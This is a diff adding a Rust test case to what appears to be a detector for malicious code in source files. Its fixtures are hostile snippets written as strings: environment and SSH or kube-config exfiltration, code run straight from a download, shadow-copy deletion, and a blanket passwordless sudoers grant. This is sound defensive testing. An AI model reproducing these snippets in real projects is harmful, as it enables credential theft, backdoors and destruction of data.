@@ -4232,3 +4232,41 @@ fn round_24_false_highs_by_technique() {
         Some(High)
     );
 }
+
+#[test]
+fn round_25_misses_by_technique() {
+    use Severity::{High, Medium};
+    // The whole environment, or key files, sent from R, Swift, Julia, C#
+    // and a Rust build script.
+    let r = "ctx <- as.list(Sys.getenv())\ntry(POST(endpoint, body = ctx, encode = \"json\"))\n";
+    assert_eq!(
+        severity_in("scripts/clean.R", r, "exfiltration"),
+        Some(High)
+    );
+    let one = "key <- Sys.getenv(\"OPENAI_API_KEY\")\nPOST(url, body = list(q = q), add_headers(Authorization = key))\n";
+    assert_eq!(severity_in("scripts/ask.R", one, "exfiltration"), None);
+    let swift = "let sshDir = home.appendingPathComponent(\".ssh\")\nvar req = URLRequest(url: u)\nreq.httpMethod = \"POST\"\n";
+    assert_eq!(
+        severity_in("Sources/lint.swift", swift, "exfiltration"),
+        Some(High)
+    );
+    let rust = "let cfg = fs::read_to_string(home.join(\".kube\").join(\"config\"))?;\nif let Ok(mut s) = TcpStream::connect(host) { s.write_all(cfg.as_bytes()); }\n";
+    assert_eq!(severity_in("build.rs", rust, "exfiltration"), Some(High));
+    // Julia code included straight from a download.
+    let julia = "include(download(STATEMENTS_URL))\n";
+    assert_eq!(
+        severity_in("setup.jl", julia, "remote-code-pipe"),
+        Some(High)
+    );
+    // Shadow copies deleted; a sudoers entry granting everything.
+    let cs = "foreach (var a in new[] { \"delete shadows /all /quiet\" })\n    Process.Start(\"vssadmin.exe\", a);\n";
+    assert_eq!(
+        severity_in("Program.cs", cs, "data-destruction"),
+        Some(Medium)
+    );
+    let sudo =
+        "copy: { dest: /etc/sudoers.d/90-support, content: \"svc ALL=(ALL) NOPASSWD:ALL\\n\" }\n";
+    assert_eq!(severity_in("harden.yml", sudo, "persistence"), Some(Medium));
+    let narrow = "deploy ALL=(ALL) NOPASSWD: /usr/bin/systemctl restart app\n";
+    assert_eq!(severity_in("sudoers.txt", narrow, "persistence"), None);
+}
